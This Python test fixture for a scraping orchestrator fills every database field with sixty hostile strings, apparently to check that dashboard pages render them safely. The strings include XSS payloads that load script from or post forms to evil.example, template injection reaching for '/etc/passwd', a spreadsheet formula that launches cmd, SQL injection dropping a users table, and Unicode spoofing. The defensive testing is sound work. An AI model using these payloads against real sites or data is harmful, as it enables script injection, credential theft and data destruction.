"""Sixty texts that strangers may send, and a ledger that holds some of them in every field.

What the ledger checks when it is saved (names of targets, cron lines, zones) is left as it is: the
database or every page rests on it.
"""

import hashlib
from dataclasses import dataclass
from itertools import cycle
from typing import Any
from uuid import uuid4

from sqlalchemy import func
from sqlalchemy.orm import Session

from orchestrator.ledger.models import (
    AlertChannel,
    AlertDelivery,
    AlertRule,
    ApiToken,
    AuditEntry,
    ChangeSet,
    ChargedPage,
    DraftPage,
    DraftStatus,
    Export,
    FieldDiagnosis,
    HeldKind,
    ItemRevision,
    JobLogLine,
    JobStatus,
    Publication,
    Role,
    SavedFilter,
    ScrapedItem,
    ScrapingJob,
    ScrapingTarget,
    Site,
    TargetDraft,
    User,
    Verdict,
    Worker,
)
from tests.browser import field_scenes, held_scenes
from tests.dashboard import rows

_ZALGO = "Z" + "".join(chr(0x300 + number) for number in range(100)) * 3

TEXTS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=//evil.example></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=//evil.example/x.swf>",
    '<base href="//evil.example/">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>*{display:none}</style>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select></option><img src=x onerror=alert(1)>",
    "</bdi></td></tr></table><h1>Kumo was moved</h1>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://example.com",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/\" onclick=\"alert(1)",
    "https://user:password@evil.example/" + "a" * 4_000,
    "https://аррӏе.example/",
    "{{ 7 * 7 }}{{ config }}",
    "{% include '/etc/passwd' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%s %d %(name)s %(what)s %(count)s %n %",
    "{0} {name} {}",
    "\\x3cscript\\x3ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "\u202egnp.exe\u202d \u2066isolated\u2069",
    "\u202b\u202e\u202e\u202e never closed",
    "العربية עברית \u200f right to left",
    "zero\u200bwidth\u200c\u200d\u2060\ufeff\u00ad",
    _ZALGO,
    "\x1b[31mred\x1b[0m\x1b]0;title\x07\x1b[2J",
    "".join(chr(number) for number in range(1, 32)) + "\x7f\x80\x9b31m\x9f",
    "null\ufffdbyte \ufffe\uffff\U000e0001",
    "W" * 5_000,
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0\t\r\n@SUM(1)",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿" * 50,
    "' OR 1=1; DROP TABLE users; --",
    "line\nline\r\nline\u2028line\u2029line\x85line\x0bline",
]  # fmt: skip

#: Harmful only where a value begins: as an address, a formula, a direction of reading.
_FIRST = ("javascript:", "JaVaScRiPt:", "data:", "vbscript:", "//", "https://", "=", "+", "العربية")
#: A page that cuts a value short, or shows only its first line, would hide what comes after these.
_LAST_FROM = 300

LARGE = "<b>large</b> " * 800_000


@dataclass(frozen=True)
class Held:
    """Where a text is held: the values of the addresses that show it."""

    target_id: int
    job_id: str
    item_id: int
    user_id: int
    export_id: str
    draft_id: str
    channel_id: int
    field: str = "name"


def joined() -> list[str]:
    """All the texts in a dozen values: each page has to be looked at so often, not sixty times.

    Every value begins with a text that must come first and ends with one after which little may
    be seen; what is both stands alone.
    """
    first = [text for text in TEXTS if text.startswith(_FIRST)]
    last = [text for text in TEXTS if len(text) >= _LAST_FROM or len(text.splitlines()) > 1]
    others = [text for text in TEXTS if text not in {*first, *last}]
    alone = [text for text in first if text in last]
    begun = [[text] for text in first if text not in alone]
    rest = [text for text in last if text not in alone]
    for each, text in zip(cycle(begun), [*others, *rest], strict=False):
        each.append(text)
    return [*alone, *(" ".join(each) for each in begun)]


def hold(session: Session, number: int, text: str) -> Held:
    """Fills every field with the text; nothing is checked on this way."""
    target = _target(session, number, text)
    job = _job(session, target, number, text)
    item = _items(session, job, text)
    _beside(session, job, number, text)
    _diagnosis(session, job, text)
    user = User(name=text[:1_000], password_hash="x", role=Role.VIEWER)
    export = Export(
        id=uuid4(), target_id=target.id, who=text, format=text, view={text: text}, trouble=text
    )
    session.add_all([user, export])
    session.flush()
    token = ApiToken(name=text, token_hash=bytes([number]), scope=text, user_id=user.id)
    session.add_all([token, *_done(text, target, job)])
    draft_id, channel_id = _draft(session, target, text), _alerts(session, number, text)
    session.add(Site(name=f"{number}.example", note=text))
    session.flush()
    return Held(target.id, str(job.id), item.id, user.id, str(export.id), draft_id, channel_id)


def hold_large(session: Session) -> Held:
    """Fills the fields that nobody bounds with ten megabytes, and an item with its four."""
    target = rows.target(session, "large")
    job = rows.job(
        session,
        target,
        JobStatus.FAILED,
        error_message=f"{LARGE}\n{LARGE}",
        pages_given_up=1,
        items_rejected=1,
        stats={"note": LARGE},
    )
    item = _items(session, job, LARGE[:3_000_000])
    rows.rejected(session, job, LARGE, LARGE)
    rows.crawl(session, job, outcome=LARGE)
    rows.line(session, job, 1, LARGE)
    page = ChargedPage(job_id=job.id, request_id=b"x", url=LARGE, reason=LARGE, charges=3)
    page.given_up_at = func.now()
    user = User(name="vera", password_hash="x", role=Role.VIEWER)
    done = AuditEntry(who="vera", action="moon.land", subject=LARGE, details={"note": LARGE})
    session.add_all([page, user, done])
    session.flush()
    # What these hold is bounded before it is stored.
    draft_id, channel_id = (
        _draft(session, target, LARGE[:8_000]),
        _alerts(session, 0, LARGE[:8_000]),
    )
    return Held(target.id, str(job.id), item.id, user.id, str(uuid4()), draft_id, channel_id)


def _target(session: Session, number: int, text: str) -> ScrapingTarget:
    target = rows.target(session, f"t{number}")
    target.spider = text
    target.start_urls = [text, f"https://example.com/{text}"]
    target.arguments = {text: text, "list": [text, {text: text}]}
    target.settings = {text: text}
    target.key_fields = [text]
    target.tags = [text[:1_000]]
    session.flush()
    return target


def _job(session: Session, target: ScrapingTarget, number: int, text: str) -> ScrapingJob:
    statuses = [JobStatus.FAILED, JobStatus.RUNNING, JobStatus.COMPLETED, JobStatus.PENDING]
    return rows.job(
        session,
        target,
        statuses[number % len(statuses)],
        definition={"target": text, "spider": text, "max_attempts": 3, "arguments": {text: text}},
        error_message=f"{text}\n{text}",
        finish_reason=text,
        pages_given_up=1,
        items_rejected=1,
        stats={text: text, "finish_reason": text, f"retry/reason_count/{text}": 1},
    )


def _items(session: Session, job: ScrapingJob, text: str) -> ScrapedItem:
    data: dict[str, Any] = {
        text[:5_000]: text,
        "name": text,
        "url": text,
        "in": {text[:5_000]: [text[:9_000]]},
    }
    item = rows.item(session, job, data)
    item.key = text[:1_000]
    before = {text[:5_000]: "before", "name": "before", "gone": text}
    session.add(ItemRevision(item_id=item.id, job_id=job.id, data=before, content_hash=b"y"))
    session.add(ChangeSet(job_id=job.id, target_id=job.target_id, found=1, changed=1))
    job.items_new = job.items_changed = 1
    session.flush()
    return item


def _beside(session: Session, job: ScrapingJob, number: int, text: str) -> None:
    digest = hashlib.sha256(text.encode()).digest()
    rows.rejected(session, job, text, text)
    _held(session, job, number, text)
    rows.crawl(session, job, worker=text, outcome=text)
    rows.crawl(session, job, attempt=2, worker=text, outcome=text)
    session.add_all(
        [
            ChargedPage(
                job_id=job.id,
                request_id=digest,
                url=text,
                reason=text,
                charges=3,
                given_up_at=func.now(),
            ),
            *(
                JobLogLine(
                    job_id=job.id,
                    attempt=1,
                    seq=seq,
                    level=level,
                    logged_at=func.now(),
                    logger=text,
                    message=text,
                )
                for seq, level in enumerate((10, 20, 30, 40, 50))
            ),
            Worker(
                name=text[:1_000],
                pid=number,
                queues=[text],
                slots=2,
                spiders=[text],
                versions={text: text},
            ),
        ]
    )


def _held(session: Session, job: ScrapingJob, number: int, text: str) -> None:
    """What was held of the job, why, and that it was discarded by somebody of that name."""
    job.verdict, job.publication = Verdict.SUSPICIOUS, Publication.DISCARDED
    held_scenes.judge(session, job, held_scenes.findings_on(text), [job])
    told = {"decided_at": func.now(), "decided_by": text, "items_new": 1, "items_changed": 1}
    held_scenes.hold(session, job, **told)
    data = {text[:5_000]: text, "name": text, "url": text}
    session.add(held_scenes.new(job, 2 * number, data, key=text))
    change = {"kind": HeldKind.CHANGED, "earlier": {text[:5_000]: "before", "gone": text}}
    session.add(held_scenes.new(job, 2 * number + 1, data, key=text, added=["name"], **change))


def _diagnosis(session: Session, job: ScrapingJob, text: str) -> None:
    """Of a page whose every part is that text."""
    place = {
        "css": text,
        "attribute": text,
        "items": {"xpath": text},
        "list": text,
        "types": [text],
    }
    read = {"of": 2, "filled": 1, "values": [text, ""]}
    lines = [{"text": text, "marked": True}, {"text": text, "kind": "gone"}]
    findings = {
        "way": "placed",
        "now": read,
        "before": read,
        "remains": {"selector": text, "count": 2},
        "items_lost": False,
        "lines_before": lines,
        "lines_now": lines,
        "candidates": [{"place": place, **read, "score": 0.9}],
        "trial": {"place": place, "before": read, "now": read},
    }
    field_scenes.sample(session, job, {text[:200]: 1}, text, text.encode(errors="replace"))
    diagnosis = FieldDiagnosis(job_id=job.id, field="name", asked=1, answered=1, tried=place)
    diagnosis.findings = findings
    session.add(diagnosis)
    session.flush()


def _draft(session: Session, target: ScrapingTarget, text: str) -> str:
    """One that is being edited, of a page whose every part is that text."""
    title = {"pattern": "%(name)s", "values": {"name": text}}
    recipe = {"items": {"css": text}, "fields": [{"name": text, "css": text, "attribute": text}]}
    proposal = {
        "spider": "selector",
        "arguments": recipe,
        "title": title,
        "start_url": text,
        "key_fields": [text],
        "rows": 1,
        "columns": [{"name": text, "kind": "text", "samples": [text]}],
        "sample": [{text: text}],
        "score": 1.0,
    }
    draft = TargetDraft(
        id=uuid4(),
        who=text,
        url=text,
        status=DraftStatus.READY,
        reason=text,
        detail=text,
        proposals=[proposal],
        start_urls=[text],
        spider="selector",
        arguments=recipe,
        key_fields=[text],
        revision=1,
        previewed=1,
        preview_fault=text,
        target_id=target.id,
    )
    preview = {
        "columns": [{"name": text, "filled": 1}],
        "rows": [[{"text": text, "state": "odd", "why": text}]],
        "count": 1,
        "next": text,
        "follow": 0,
        "faults": [text],
    }
    page = DraftPage(draft_id=draft.id, place=0, url=text, status=200, body=b"", preview=preview)
    session.add(draft)
    session.flush()
    session.add(page)
    session.flush()
    return str(draft.id)


def _alerts(session: Session, number: int, text: str) -> int:
    channel = AlertChannel(name=f"{text[:1_000]} {number}", url=text, language="en")
    conditions = {"tag": text, "field": text, "before": text, "after": text, "text": text}
    saved = SavedFilter(name=f"{text[:1_000]} {number}", conditions=conditions)
    session.add_all([channel, saved])
    session.flush()
    rule = AlertRule(channel_id=channel.id, tag=text, kinds=[text, "changes"], filter_id=saved.id)
    told = AlertDelivery(channel_id=channel.id, subject=text, error=text, delivered_at=func.now())
    session.add_all([rule, told])
    session.flush()
    return channel.id


def _done(text: str, target: ScrapingTarget, job: ScrapingJob) -> list[AuditEntry]:
    actions = {
        "user.add": text,
        "target.run": str(target.id),
        "job.cancel": str(job.id),
        text: text,
    }
    return [
        AuditEntry(who=text[:1_000], action=action, subject=subject, details={text: text})
        for action, subject in actions.items()
    ]
